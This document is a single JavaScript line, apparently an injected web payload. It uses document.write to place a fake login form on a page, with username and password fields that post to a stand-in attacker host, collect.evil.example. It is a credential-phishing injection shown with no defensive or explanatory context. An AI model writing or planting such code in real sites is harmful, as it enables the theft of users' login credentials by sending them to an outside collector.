document.write("<form action=\"https://collect.evil.example/x\" method=\"post\"><input name=u><input type=\"password\" name=p></form>");
